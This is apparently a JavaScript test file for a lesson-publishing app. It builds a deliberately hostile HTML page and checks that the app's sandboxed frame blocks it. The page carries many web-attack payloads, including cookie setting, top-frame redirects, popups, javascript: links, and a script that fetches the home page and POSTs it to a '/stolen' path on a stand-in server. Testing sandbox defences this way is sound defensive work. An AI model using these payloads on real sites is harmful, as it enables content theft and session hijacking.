// SPDX-License-Identifier: Apache-2.0
// A lesson that means harm: it is shown, and that is all it can do.
'use strict';

const assert = require('node:assert');
const fs = require('node:fs');
const http = require('node:http');
const path = require('node:path');
const { be, flow, folder, until } = require('./lib.js');

// Another server of this machine, which nobody may reach; it counts who does, and
// shows LESSON with none of our policies.
function elsewhere(lesson = () => '') {
  const hits = [];
  const server = http.createServer((request, response) => {
    hits.push(`${request.method} ${request.url}`);
    response.setHeader('Content-Type', 'text/html');
    response.end(request.url === '/lesson' ? lesson() : '');
  });
  return new Promise((done) => {
    server.listen(0, '127.0.0.1', () => done({
      hits, server, at: `http://127.0.0.1:${server.address().port}`,
    }));
  });
}

// Each way out that HTML has, to HOME (this device) and to THERE.
const page = (home, there) => `<!doctype html><html><head>
<meta charset="utf-8"><title>harmless</title>
<meta http-equiv="refresh" content="0;url=${there}/refresh">
<meta http-equiv="set-cookie" content="evil=1">
<base href="${there}/" target="_top">
<link rel="stylesheet" href="${there}/style.css">
<link rel="prefetch" href="${there}/prefetch">
<link rel="preload" as="image" href="${there}/preload">
<link rel="icon" href="${there}/icon">
<link rel="manifest" href="${there}/manifest">
<style>@import "${there}/import.css";
  body { background: url(${there}/background) } </style>
<script>for (const harm of [
  () => { document.cookie = 'evil=1'; }, () => { document.title = 'evil'; },
  () => fetch('${home}/').then((r) => r.text())
    .then((text) => fetch('${there}/stolen', { method: 'POST', body: text })),
  () => navigator.sendBeacon('${there}/beacon'),
  () => new EventSource('${home}/events'), () => open('${there}/popup'),
  () => { parent.document.title = 'evil'; },
  () => { top.location = '${there}/top'; }, () => alert('evil'),
]) try { harm(); } catch { /* the next one, then */ }</script>
<script src="${there}/script.js"></script>
<script src="${home}/asset/script.js"></script>
</head><body onload="document.title = 'evil'; location = '${there}/onload'">
<h1>A harmless lesson</h1>
<img src="${there}/image" onerror="document.title = 'evil'">
<img src="x" onerror="document.title = 'evil'">
<svg onload="document.title = 'evil'"><script>document.title = 'evil'</script>
  <image href="${there}/svg"/><use href="${there}/use#a"/></svg>
<iframe src="${home}/"></iframe><iframe src="${there}/frame"></iframe>
<iframe srcdoc="<script>parent.document.title = 'evil'</script>"></iframe>
<object data="${there}/object"></object><embed src="${there}/embed">
<video src="${there}/video" poster="${there}/poster" autoplay></video>
<audio src="${there}/audio" autoplay></audio>
<form method="post" action="${home}/leave"><input name="a" value="1">
  <button id="leave" autofocus>Leave</button></form>
<form action="${there}/form"><button id="form">Send</button></form>
<p><a id="top" target="_top" href="${there}/link-top">top</a>
<a id="self" target="_self" href="${there}/link-self" ping="${there}/ping">self</a>
<a id="blank" target="_blank" href="${there}/link-blank">blank</a>
<a id="script" target="_self" href="javascript:document.title='evil'">script</a>
<a id="home" target="_self" href="${home}/who">home</a></p>
</body></html>`;

async function publish(device, there) {
  const dir = path.join(folder, 'evil');
  fs.mkdirSync(dir);
  fs.writeFileSync(path.join(dir, 'content.ini'), '[title]\nen = Harmless\n');
  fs.writeFileSync(path.join(dir, 'index.html'),
    page(await device.base(), there));
  await device.daftar('publish', dir);
  return device.lesson('Harmless');
}

// What must be as before, whatever was tried.
async function state(device, browser) {
  const cookies = await browser.cookies();
  return {
    cookies: cookies.map((one) => `${one.name}=${one.value}`).sort(),
    records: (await device.json('status'))[0].records,
  };
}

// Presses all there is in the lesson, each on a page of its own.
async function press(context, url, inside) {
  for (const id of ['leave', 'form', 'top', 'self', 'blank', 'script', 'home']) {
    const one = await context.newPage();
    await one.goto(url);
    await inside(one).locator(`#${id}`).click();
    // Something honest afterwards: what was tried has had its turn.
    await one.evaluate(() => new Promise((done) =>
      requestAnimationFrame(() => setTimeout(done, 0))));
    assert.strictEqual(one.url(), url, `#${id} led the whole page away`);
    assert.doesNotMatch(await one.title(), /evil/, `#${id} ran a script`);
    await one.close();
  }
}

flow('an evil lesson is shown, and can do nothing', ['A'], async (w, t) => {
  const other = await elsewhere();
  t.after(() => other.server.close());
  const id = await publish(w.A, other.at);
  const base = await w.A.base();
  const me = await w.visit(w.A);
  await be(me, 'Kite Example');
  const context = me.context();
  const before = await state(w.A, context);
  const asked = [];
  context.on('request', (request) => asked.push(request));
  context.on('dialog', (dialog) => assert.fail(`it said ${dialog.message()}`));

  await me.goto(`${base}/lesson/${id}`, { waitUntil: 'networkidle' });
  const frame = me.frameLocator('iframe.content');
  await frame.locator('h1', { hasText: 'A harmless lesson' }).waitFor();
  assert.strictEqual(me.url(), `${base}/lesson/${id}`, 'it led away');
  assert.match(await me.title(), /^Harmless/, 'it changed the page around it');
  await press(context, `${base}/lesson/${id}`,
    (one) => one.frameLocator('iframe.content'));

  assert.deepStrictEqual(other.hits, [], 'it reached another server');
  const got = [];
  for (const request of asked) {
    const answer = await request.response().catch(() => null);
    // The page around it listens for what is new; the lesson may not.
    const is_around = request.frame().parentFrame() === null;
    const url = new URL(request.url());
    if (answer && !(is_around && url.pathname === '/events')) got.push(url);
  }
  const strange = got.filter((url) => url.origin !== base ||
    !/^\/(asset|content|lesson)\//.test(url.pathname));
  assert.deepStrictEqual(strange.map(String), [], 'it fetched what is not its');
  assert.deepStrictEqual(await state(w.A, context), before,
    'it changed a cookie or the notebook');
  assert.strictEqual(context.pages().length, 1, 'it opened a window');
});

flow('nor when it is opened without its frame', ['A'], async (w, t) => {
  const other = await elsewhere();
  t.after(() => other.server.close());
  fs.rmSync(path.join(folder, 'evil'), { recursive: true });
  const id = await publish(w.A, other.at);
  const me = await w.visit(w.A);
  await be(me, 'Kite Example');
  const before = await state(w.A, me.context());
  const url = `${await w.A.base()}/content/${id}/index.html`;

  await me.goto(url, { waitUntil: 'networkidle' });
  await me.locator('h1', { hasText: 'A harmless lesson' }).waitFor();
  assert.strictEqual(me.url(), url, 'it led away by itself');
  assert.strictEqual(await me.title(), 'harmless', 'a script ran');
  assert.deepStrictEqual(other.hits, [], 'it reached another server');
  assert.deepStrictEqual(await state(w.A, me.context()), before,
    'it changed a cookie or the notebook');
});

// Or all this would prove nothing.
flow('the same lesson does harm where nobody minds', ['A'], async (w, t) => {
  let lesson = '';
  const other = await elsewhere(() => lesson);
  t.after(() => other.server.close());
  lesson = page(await w.A.base(), other.at);
  const me = await w.stranger();
  await me.goto(`${other.at}/lesson`, { waitUntil: 'commit' });
  for (const harm of ['GET /style.css', 'GET /script.js', 'POST /beacon',
    'GET /top'])
    await until(harm, () => other.hits.includes(harm));
});
